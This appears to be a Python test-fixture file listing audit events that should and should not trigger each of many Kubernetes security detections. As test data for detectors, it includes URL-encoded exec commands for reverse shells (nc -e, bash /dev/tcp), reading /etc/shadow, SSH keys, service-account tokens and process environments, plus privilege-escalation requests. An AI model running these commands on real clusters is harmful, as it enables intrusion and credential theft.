"""For every detection on events: what must make it fire, and what is alike and must not.

`FIRES` and `QUIET` have one entry for each detection. What a query makes of them is found out by a real Loki
(`tests/observability/test_detection_queries.py`); that they are what the detection says it must see, by a unit test.
"""

from __future__ import annotations

from typing import Any

from tests.unit.detections.events import Example

E = Example
ALICE = "alice[developers]"
ADMIN = "kubernetes-admin[kubeadm:cluster-admins]"
BOT = "system:serviceaccount:ci:deployer"
CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
MANAGER = "system:kube-controller-manager"
KUBELET = "system:node:worker-1"
ANONYMOUS = "system:anonymous"
STARTED = "ResponseStarted"
DRY_RUN = "?fieldManager=pulumi&dryRun=All"
# The server takes the text behind a second question mark for a part of the value before it: this is no dry run.
NO_REAL_DRY_RUN = "?fieldManager=a?dryRun=All"


def binding(role: str, *subjects: str) -> dict[str, Any]:
    return {
        "kind": "ClusterRoleBinding",
        "subjects": [{"kind": "Group", "name": name} for name in subjects or ("developers",)],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
    }


def role(*verbs: str, resources: tuple[str, ...] = ("pods",)) -> dict[str, Any]:
    return {"kind": "ClusterRole", "rules": [{"verbs": verbs, "apiGroups": [""], "resources": resources}]}


def pod(container: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    return {"kind": "Pod", "spec": {"containers": [{"name": "a", "image": "busybox", **(container or {})}], **spec}}


def workload(container: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    return {"kind": "Deployment", "spec": {"replicas": 1, "template": pod(container, **spec)}}


ADMIN_OF_THE_SYSTEM = {"securityContext": {"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}}
ACCOUNT_BINDING = {
    **binding("view"),
    "subjects": [{"kind": "ServiceAccount", "name": "a", "namespace": "default"}],
}
PRIVILEGED = {"securityContext": {"privileged": True}}
NODE_ROOT = [{"name": "node", "hostPath": {"path": "/", "type": ""}}]
NODE_KEYS = [{"name": "keys", "hostPath": {"path": "/etc/kubernetes/pki", "type": ""}}]
NODE_DATA = [{"name": "data", "hostPath": {"path": "/srv/data", "type": ""}}]
SET_IMAGE = {
    "spec": {
        "template": {
            "spec": {
                "$setElementOrder/containers": [{"name": "a"}],
                "containers": [{"image": "busybox:2", "name": "a"}],
            }
        }
    }
}
SIDECAR = {"spec": {"template": {"spec": {"containers": [{"name": "b", "image": "redis"}]}}}}


def host_path(path: str) -> list[dict[str, Any]]:
    return [{"name": "node", "hostPath": {"path": path}}]


def operation(path: str, value: Any, op: str = "add") -> list[dict[str, Any]]:
    """A JSON patch of one operation, as kubectl patch --type=json sends it."""
    return [{"op": op, "path": path, "value": value}]


def reordered(path: str, value: Any) -> list[dict[str, Any]]:
    """The same with its members in another order."""
    return [{"value": value, "op": "replace", "path": path}]


CONTAINER = "/spec/template/spec/containers/0/securityContext"
LAST_APPLIED = {
    "metadata": {"annotations": {"last-applied-configuration": '{"securityContext":{"privileged":true}}'}},
}

FIRES: dict[str, tuple[Example, ...]] = {
    "anonymous-access-succeeded": (
        E(f"{ANONYMOUS} get configmaps default/app"),
        E(f"{ANONYMOUS} list secrets"),
        E(f"{ANONYMOUS} get /metrics"),
        E(f"{ANONYMOUS} get pods/exec default/web", 101, STARTED),
    ),
    "anonymous-request-rate": (E(f"{ANONYMOUS} get secrets default/a-{{n}}", 403, times=31),),
    "authentication-failures": (E("- list pods", 401, STARTED, times=31),),
    "forbidden-burst": (E(f"{ALICE} list secrets", 403, times=31), E(f"{BOT} get pods default/a", 403, times=31)),
    "permission-enumeration": (E(f"{BOT} create selfsubjectrulesreviews", 201),),
    "impersonation": (
        E(f"{ALICE} get pods default/web", impersonated="system:admin"),
        E(f"{BOT} delete pods default/web", impersonated="bob"),
    ),
    "break-glass-credential-used": (E("kubernetes-super-admin[system:masters] delete pods default/web"),),
    "service-account-used-by-hand": (
        E(f"{BOT} list secrets", 403),
        E(f"{BOT} get pods default/web", agent="curl/8.5.0"),
    ),
    "secret-read-by-person": (
        E(f"{ALICE} get secrets default/db"),
        E(f"{ALICE} list secrets default/"),
        E(f"{ALICE} watch secrets", stage=STARTED),
    ),
    "secrets-listed-everywhere": (E(f"{ALICE} list secrets"), E(f"{BOT} list secrets")),
    "secret-sweep": (E(f"{BOT} get secrets default/a", name="a-{n}", times=21),),
    "token-requested": (
        E(f"{ALICE} create serviceaccounts/token default/builder", 201),
        E(f"{BOT} create serviceaccounts/token kube-system/admin", 201),
    ),
    "bootstrap-token-created": (
        E(f"{ADMIN} create secrets kube-system/", 201, name="bootstrap-token-abcdef"),
        E(f"{ADMIN} update secrets kube-system/bootstrap-token-abcdef"),
        E(f"{ADMIN} create secrets kube-system/", 201, name="bootstrap-token-abcdef", query=NO_REAL_DRY_RUN),
    ),
    "certificate-approved": (
        E(f"{ADMIN} update certificatesigningrequests/approval alice"),
        E(f"{BOT} patch certificatesigningrequests/approval alice"),
    ),
    "client-certificate-requested": (
        E(
            f"{ALICE} create certificatesigningrequests",
            201,
            name="alice",
            body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}},
        ),
    ),
    "exec-session": (
        E(f"{ALICE} get pods/exec default/web", 101, STARTED),
        E(f"{ALICE} create pods/exec default/web", 101),
    ),
    "exec-in-kube-system": (
        E(f"{ADMIN} get pods/exec kube-system/etcd-cp1", 101, STARTED),
        E(f"{ADMIN} create pods/attach kube-system/etcd-cp1", 101),
    ),
    "suspicious-exec-command": (
        E(f"{ALICE} get pods/exec default/web", 101, STARTED, query="?command=curl&command=http%3A%2F%2Fa&stdout=true"),
        E(f"{ALICE} get pods/exec default/web", 101, query="?container=a&command=%2Fusr%2Fbin%2Fwget"),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=cat&command=%2Fetc%2Fshadow"),
        E(
            f"{ALICE} create pods/exec default/web",
            101,
            query="?command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=curl", audit_id='a"b'),
        *(
            E(f"{ALICE} get pods/exec default/web", 101, query=f"?command=sh&command=-c&command={line}")
            for line in (
                "curl+http%3A%2F%2Fa",
                "id%3B%20wget%20a",
                "nc+-e+%2Fbin%2Fsh+a+1",
                "cat+%2Fproc%2F1%2Fenviron",
                "python3+-c+%27import+os%27",
                "bash+-i+%3E%26+%2Fdev%2Ftcp%2Fa%2F1",
                "wget%20metadata.google.internal",
            )
        ),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=python3&command=-c&command=1"),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=cat&command=%2Fproc%2F1%2Fenviron"),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=cat&command=%2Froot%2F.ssh%2Fid_rsa"),
    ),
    "attach-or-port-forward": (
        E(f"{ALICE} get pods/attach default/web", 101, STARTED),
        E(f"{ALICE} create pods/portforward default/db", 101),
    ),
    "proxy-to-workload": (
        E(f"{ALICE} get services/proxy default/web"),
        E(f"{ALICE} create pods/proxy default/web", 201),
    ),
    "node-proxy-used": (E(f"{BOT} get nodes/proxy worker-1"), E(f"{ADMIN} create nodes/proxy worker-1", 101, STARTED)),
    "ephemeral-container-added": (E(f"{ALICE} patch pods/ephemeralcontainers default/web"),),
    "cluster-admin-bound": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("cluster-admin")),
        E(f"{BOT} update rolebindings default/a", body=binding("cluster-admin")),
        E(
            f"{ALICE} patch clusterrolebindings a",
            body={"subjects": [{"kind": "User", "name": "mallory"}]},
            answer=binding("cluster-admin"),
        ),
        E(
            f"{ALICE} create clusterrolebindings",
            201,
            name="a",
            body={**binding("cluster-admin"), "requestURI": "/?dryRun=All"},
        ),
        E(
            f"{ALICE} create clusterrolebindings",
            201,
            name="a",
            body=binding("cluster-admin"),
            query="?fieldManager=%26dryRun=All",
        ),
    ),
    "binding-to-everyone": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view", "system:unauthenticated")),
        E(
            f"{ALICE} patch rolebindings default/a",
            body={"subjects": [{"name": "system:authenticated"}]},
        ),
        E(
            f"{ALICE} patch clusterrolebindings a",
            body=operation("/subjects/-", {"kind": "Group", "name": "system:authenticated"}),
        ),
    ),
    "wildcard-role": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("*")),
        E(f"{ALICE} update roles default/a", body=role("get", resources=("pods", "*"))),
        E(f"{ALICE} patch clusterroles a", body=operation("/rules/0/verbs/-", "*")),
        E(f"{ALICE} patch clusterroles a", body=reordered("/rules/0/resources", ["pods", "*"])),
    ),
    "escalating-verb-granted": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", "escalate")),
        E(f"{BOT} patch roles default/a", body=role("impersonate")),
        E(f"{ALICE} patch clusterroles a", body=operation("/rules/0/verbs/-", "escalate")),
    ),
    "rbac-change-rate": (E(f"{ALICE} delete rolebindings default/a", name="a-{n}", times=21),),
    "rbac-changed-by-workload": (E(f"{BOT} create rolebindings default/", 201, name="a"),),
    "service-account-in-kube-system": (E(f"{ALICE} create serviceaccounts kube-system/", 201, name="helper"),),
    "privileged-container": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(PRIVILEGED)),
        E(f"{ALICE} patch deployments default/a", body=workload(PRIVILEGED)),
        E("system:serviceaccount:argo:workflow create jobs default/", 201, name="a", body=workload(PRIVILEGED)),
        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/privileged", True)),
        E(f"{ALICE} patch deployments default/a", body=reordered(f"{CONTAINER}/privileged", True)),
        E(f"{ALICE} patch deployments default/a", body=operation(CONTAINER, {"privileged": True})),
    ),
    "host-namespace": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostPID=True)),
        E(f"{ALICE} create daemonsets default/", 201, name="a", body=workload(hostNetwork=True)),
        E(f"{ALICE} patch deployments default/a", body=operation("/spec/template/spec/hostPID", True)),
    ),
    "sensitive-host-path": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=NODE_ROOT)),
        E(f"{ALICE} update deployments default/a", body=workload(volumes=NODE_KEYS)),
        *(
            E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path(path)))
            for path in (
                "/var",
                "/var/",
                "/var/lib",
                "/home",
                "/home/alice",
                "//etc",
                "/./etc/kubernetes",
                "/run/x.sock",
            )
        ),
        E(
            f"{ALICE} patch deployments default/a",
            body=operation("/spec/template/spec/volumes/0/hostPath/path", "/etc", "replace"),
        ),
        E(
            f"{ALICE} patch deployments default/a",
            body=operation("/spec/template/spec/volumes/-", host_path("/etc")[0]),
        ),
    ),
    "workload-in-kube-system": (
        E(f"{ALICE} create pods kube-system/", 201, name="a"),
        E(f"{ADMIN} patch daemonsets kube-system/kube-proxy"),
        E(f"{ALICE} create pods kube-public/", 201, name="a"),
    ),
    "cluster-configuration-changed": (
        E(f"{ADMIN} update configmaps kube-system/kubeadm-config"),
        E(f"{ADMIN} delete configmaps kube-system/coredns"),
    ),
    "mass-deletion": (E(f"{ALICE} delete pods default/a", name="a-{n}", times=51),),
    "admission-webhook-changed": (
        E(f"{ALICE} delete validatingwebhookconfigurations gatekeeper"),
        E(f"{BOT} patch mutatingwebhookconfigurations injector"),
    ),
    "admission-policy-changed": (E(f"{ALICE} delete validatingadmissionpolicybindings no-root"),),
    "annotation-policy-changed": (
        E(f"{ALICE} delete validatingadmissionpolicybindings audit-annotations-workload"),
        E(f"{ALICE} delete validatingadmissionpolicybindings audit-annotations-workload", query="?dryRun=All"),
        E(f"{ALICE} patch validatingadmissionpolicies audit-annotations-secret"),
        E(f"{ALICE} deletecollection validatingadmissionpolicies"),
        E(f"{CONTROLLER} delete validatingadmissionpolicybindings audit-annotations-workload"),
    ),
    "api-service-changed": (E(f"{ALICE} create apiservices", 201, name="v1beta1.metrics.k8s.io"),),
    "pod-security-lowered": (
        E(
            f"{ALICE} patch namespaces default",
            body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
        ),
        E(
            f"{ALICE} patch namespaces default",
            body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}},
        ),
        E(
            f"{ALICE} patch namespaces default",
            body=[{"op": "remove", "path": "/metadata/labels/pod-security.kubernetes.io~1enforce"}],
        ),
        E(
            f"{ALICE} patch namespaces default",
            body=operation("/metadata/labels/pod-security.kubernetes.io~1enforce", "privileged", "replace"),
        ),
    ),
    "events-deleted": (
        E(f"{ALICE} deletecollection events default/"),
        E(f"{ALICE} delete events.events.k8s.io default/a"),
    ),
    "deprecated-api-used": (
        E(
            f"{BOT} list pods",
            annotations={"k8s.io/deprecated": "true", "k8s.io/removed-release": "1.40"},
            agent="old-operator/1.0",
        ),
    ),
    "sensitive-access-granted": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", resources=("pods", "secrets"))),
        E(f"{ALICE} patch roles default/a", body=operation("/rules/0/resources/-", "pods/exec")),
        E(f"{BOT} update clusterroles a", body=role("create", resources=("serviceaccounts/token",))),
    ),
    "system-role-changed": (
        E(f"{ALICE} patch clusterroles system:node"),
        E(f"{BOT} delete clusterroles system:discovery"),
        E(f"{ALICE} update roles kube-system/system:controller:bootstrap-signer"),
    ),
    "service-account-bound-cluster-wide": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=ACCOUNT_BINDING),
        E(
            f"{ALICE} patch clusterrolebindings a",
            body=operation("/subjects/-", {"kind": "ServiceAccount", "name": "a"}),
        ),
    ),
    "dangerous-capability": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(ADMIN_OF_THE_SYSTEM)),
        E(f"{ALICE} update deployments default/a", body=workload(ADMIN_OF_THE_SYSTEM)),
        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/capabilities/add/-", "SYS_PTRACE")),
    ),
    "container-patched-in": (
        E(f"{ALICE} patch deployments default/a", body=SIDECAR),
        E(
            f"{ALICE} patch deployments default/a",
            body=operation("/spec/template/spec/containers/-", {"name": "b", "image": "redis"}),
        ),
    ),
    "node-port-opened": (
        E(f"{ALICE} create services default/", 201, name="a", body={"kind": "Service", "spec": {"type": "NodePort"}}),
        E(f"{ALICE} patch services default/a", body=operation("/spec/type", "NodePort", "replace")),
    ),
    "kube-system-secrets-listed": (E(f"{BOT} list secrets kube-system/"),),
    "secret-changed-by-person": (
        E(f"{ALICE} update secrets default/db"),
        E(f"{ALICE} delete secrets default/db"),
        E(f"{ADMIN} create secrets default/", 201, name="db"),
    ),
    "attack-tool-used": (
        E(f"{ALICE} list pods", agent="kube-hunter"),
        E(f"{ANONYMOUS} get /version", 403, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    ),
}

_DROPPED_AUTHENTICATION = E("- list pods", 401, STARTED, times=30)

QUIET: dict[str, tuple[Example, ...]] = {
    "anonymous-access-succeeded": (
        E(f"{ANONYMOUS} get /livez"),
        E(f"{ANONYMOUS} get /readyz", query="?verbose"),
        E(f"{ANONYMOUS} get configmaps kube-public/cluster-info"),
        E(f"{ANONYMOUS} list secrets", 403),
        E(f"{ALICE} get configmaps default/app"),
    ),
    "anonymous-request-rate": (
        E(f"{ANONYMOUS} get secrets default/a", 403, times=30),
        E(f"{ANONYMOUS} get /livez", times=60),
    ),
    "authentication-failures": (_DROPPED_AUTHENTICATION, E(f"{ANONYMOUS} list pods", 403, times=40)),
    "forbidden-burst": (
        E(f"{ALICE} list secrets", 403, times=30),
        E(f"{ALICE} list pods", times=40),
        E(f"{KUBELET} get secrets default/a", 403, times=40),
        E(f"{ANONYMOUS} list pods", 403, times=40),
    ),
    "permission-enumeration": (
        E(f"{ALICE} create selfsubjectaccessreviews", 201),
        E(f"{CONTROLLER} create selfsubjectrulesreviews", 201),
    ),
    "impersonation": (E(f"{ALICE} get pods default/web"), E(f"{ALICE} get pods default/a", 403, impersonated="bob")),
    "break-glass-credential-used": (
        E(f"{ADMIN} delete pods default/web"),
        E("system:apiserver[system:masters] list pods"),
    ),
    "service-account-used-by-hand": (
        E(f"{BOT} list pods", agent="deployer/v0.0.0 (linux/amd64) kubernetes/$Format"),
        E(f"{ALICE} list pods"),
        E(f"{CONTROLLER} list pods"),
    ),
    "secret-read-by-person": (
        E(f"{BOT} get secrets default/db"),
        E(f"{KUBELET} watch secrets default/", stage=STARTED),
        E(f"{ALICE} get secrets default/db", 403),
        E(f"{ALICE} get configmaps default/db"),
        E(f"{ALICE} update secrets default/db"),
        E(f"{ANONYMOUS} list secrets"),
    ),
    "secrets-listed-everywhere": (
        E(f"{ALICE} list secrets default/"),
        E(f"{MANAGER} list secrets"),
        E(f"{ALICE} list secrets", 403),
    ),
    "secret-sweep": (
        E(f"{BOT} get secrets default/a", name="a-{n}", times=20),
        E(f"{BOT} get secrets default/a", times=40),
        E(f"{KUBELET} get secrets default/a", name="a-{n}", times=40),
    ),
    "token-requested": (
        E(f"{KUBELET} create serviceaccounts/token default/builder", 201),
        E(f"{ALICE} create serviceaccounts/token default/builder", 403),
        E(f"{ALICE} create serviceaccounts default/", 201, name="builder"),
    ),
    "bootstrap-token-created": (
        E(f"{ADMIN} create secrets kube-system/", 201, name="sh.helm.release.v1.a.v1"),
        E(f"{ADMIN} create secrets default/", 201, name="bootstrap-token-abcdef"),
        E("system:serviceaccount:kube-system:token-cleaner delete secrets kube-system/bootstrap-token-abcdef"),
        E(f"{ADMIN} create secrets kube-system/", 201, name="bootstrap-token-abcdef", query=DRY_RUN),
    ),
    "certificate-approved": (
        E("system:serviceaccount:kube-system:certificate-controller update certificatesigningrequests/approval a"),
        E(f"{ADMIN} update certificatesigningrequests/status alice"),
    ),
    "client-certificate-requested": (
        E(
            f"{ALICE} create certificatesigningrequests",
            201,
            name="alice",
            body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client-kubelet"}},
        ),
        E(f"{ALICE} create certificatesigningrequests", 201, name="alice"),
    ),
    "exec-session": (
        E(f"{ALICE} get pods/exec default/web", 403),
        E(f"{ALICE} get pods default/web"),
        E(f"{ALICE} get pods/log default/web"),
    ),
    "exec-in-kube-system": (
        E(f"{ALICE} get pods/exec default/web", 101, STARTED),
        E(f"{ADMIN} get pods/log kube-system/etcd-cp1"),
    ),
    "suspicious-exec-command": (
        E(f"{ALICE} get pods/exec default/web", 101, STARTED, query="?command=ls&command=-l"),
        E(f"{ALICE} get pods/exec default/web", 101, query="?command=curlew"),
        E(f"{ALICE} get pods/log default/web", query="?command=curl"),
    ),
    "attach-or-port-forward": (
        E(f"{ALICE} get pods/exec default/web", 101, STARTED),
        E(f"{ALICE} get pods/portforward default/web", 403),
    ),
    "proxy-to-workload": (E(f"{BOT} get services/proxy default/web"), E(f"{ALICE} get services default/web")),
    "node-proxy-used": (E(f"{ALICE} get nodes worker-1"), E(f"{BOT} get nodes/proxy worker-1", 403)),
    "ephemeral-container-added": (
        E(f"{ALICE} patch pods default/web"),
        E(f"{ALICE} patch pods/ephemeralcontainers default/web", query=DRY_RUN),
    ),
    "cluster-admin-bound": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view")),
        E(f"{ALICE} create clusterrolebindings", 403, name="a", body=binding("cluster-admin")),
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("cluster-admin"), query=DRY_RUN),
        E(f"{ALICE} create clusterrolebindings", 201, name="cluster-admin"),
        E(f"{ALICE} delete clusterrolebindings a", answer={"details": {"name": "a"}}),
    ),
    "binding-to-everyone": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view", "developers")),
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view", "system:authenticated-devs")),
    ),
    "wildcard-role": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", "list")),
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("*"), query=DRY_RUN),
        E(
            "system:serviceaccount:kube-system:clusterrole-aggregation-controller patch clusterroles admin",
            body=role("*"),
        ),
    ),
    "escalating-verb-granted": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", resources=("bindings",))),
        E(f"{ALICE} create rolebindings default/", 201, name="bind", body=binding("view")),
    ),
    "rbac-change-rate": (
        E(f"{ALICE} delete rolebindings default/a", name="a-{n}", times=20),
        E(f"{ALICE} list rolebindings default/", times=40),
    ),
    "rbac-changed-by-workload": (
        E(f"{ALICE} create rolebindings default/", 201, name="a"),
        E("system:serviceaccount:kube-system:clusterrole-aggregation-controller patch clusterroles admin"),
        E(f"{BOT} get rolebindings default/a"),
    ),
    "service-account-in-kube-system": (
        E(f"{ALICE} create serviceaccounts default/", 201, name="helper"),
        E(f"{CONTROLLER} create serviceaccounts kube-system/", 201, name="helper"),
    ),
    "privileged-container": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod()),
        E(f"{CONTROLLER} create pods default/", 201, name="a", body=pod(PRIVILEGED)),
        E(f"{ALICE} patch pods default/a", body=LAST_APPLIED),
        E(f"{ALICE} create pods default/", 403, name="a", body=pod(PRIVILEGED)),
        E(f"{ALICE} patch deployments default/a", body=workload(PRIVILEGED), query=DRY_RUN),
    ),
    "host-namespace": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostUsers=True)),
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostPID=False)),
    ),
    "sensitive-host-path": (
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=NODE_DATA)),
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path("/var/log"))),
        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path("/etcd-data"))),
    ),
    "workload-in-kube-system": (
        E(f"{CONTROLLER} create pods kube-system/", 201, name="a"),
        E(f"{ALICE} create pods default/", 201, name="a"),
        E(f"{ALICE} get pods kube-system/a"),
    ),
    "cluster-configuration-changed": (
        E(f"{ADMIN} get configmaps kube-system/kubeadm-config"),
        E(f"{ADMIN} update configmaps kube-system/other"),
        E(f"{ADMIN} update configmaps default/coredns"),
    ),
    "mass-deletion": (
        E(f"{ALICE} delete pods default/a", name="a-{n}", times=50),
        E("system:serviceaccount:kube-system:namespace-controller delete pods default/a", name="a-{n}", times=60),
    ),
    "admission-webhook-changed": (E(f"{ALICE} list validatingwebhookconfigurations"),),
    "admission-policy-changed": (
        E(f"{ALICE} get validatingadmissionpolicies no-root"),
        E(f"{ALICE} create validatingadmissionpolicies", 201, name="no-root", query=DRY_RUN),
    ),
    "annotation-policy-changed": (
        E(f"{ALICE} get validatingadmissionpolicies audit-annotations-workload"),
        E(f"{ALICE} patch validatingadmissionpolicies audit-annotations-workload", 201),
        E(f"{ALICE} delete validatingadmissionpolicybindings no-root"),
        E(f"{ALICE} patch validatingadmissionpolicies audit-annotations-workload", query=DRY_RUN),
        E(f"{MANAGER} update validatingadmissionpolicies/status audit-annotations-workload"),
    ),
    "api-service-changed": (
        E(f"{ALICE} get apiservices v1beta1.metrics.k8s.io"),
        E("system:apiserver[system:masters] update apiservices/status v1beta1.metrics.k8s.io"),
    ),
    "pod-security-lowered": (
        E(
            f"{ALICE} patch namespaces default",
            body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}},
        ),
        E(f"{ALICE} patch namespaces default", body={"metadata": {"labels": {"team": "a"}}}),
    ),
    "events-deleted": (
        E("system:serviceaccount:kube-system:namespace-controller deletecollection events default/"),
        E(f"{ALICE} list events default/"),
    ),
    "deprecated-api-used": (
        E(f"{BOT} list pods", agent="new-operator/2.0"),
        E(f"{MANAGER} list endpoints", annotations={"k8s.io/deprecated": "true"}),
    ),
    "sensitive-access-granted": (
        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", resources=("pods", "pods/log"))),
        E(f"{ALICE} create clusterroles", 403, name="a", body=role("get", resources=("secrets",))),
        E(f"{ALICE} create roles default/", 201, name="a", body=role("get", resources=("secrets",)), query=DRY_RUN),
    ),
    "system-role-changed": (
        E(f"{ALICE} patch clusterroles reader"),
        E(f"{ALICE} get clusterroles system:node"),
        E("system:apiserver[system:masters] update clusterroles system:node"),
    ),
    "service-account-bound-cluster-wide": (
        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view")),
        E(f"{ALICE} create rolebindings default/", 201, name="a", body=ACCOUNT_BINDING),
    ),
    "dangerous-capability": (
        E(
            f"{ALICE} create pods default/",
            201,
            name="a",
            body=pod({"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}}),
        ),
        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/capabilities/drop/-", "SYS_PTRACE")),
    ),
    "container-patched-in": (
        E(f"{ALICE} patch deployments default/a", body=SET_IMAGE),
        E(f"{ALICE} patch deployments default/a", body={"apiVersion": "apps/v1", **workload()}),
        E(f"{ALICE} patch deployments default/a", body={"spec": {"replicas": 2}}),
        E(f"{ALICE} create deployments default/", 201, name="a", body=workload()),
    ),
    "node-port-opened": (
        E(f"{ALICE} create services default/", 201, name="a", body={"kind": "Service", "spec": {"type": "ClusterIP"}}),
    ),
    "kube-system-secrets-listed": (
        E(f"{ALICE} list secrets default/"),
        E(f"{ALICE} get secrets kube-system/a"),
        E(f"{MANAGER} list secrets kube-system/"),
    ),
    "secret-changed-by-person": (
        E(f"{BOT} update secrets default/db"),
        E(f"{ALICE} update secrets default/db", 403),
        E(f"{ALICE} get secrets default/db"),
    ),
    "attack-tool-used": (E(f"{ALICE} list pods"), E(f"{BOT} list pods", agent="operator/1.0 (linux/amd64)")),
}
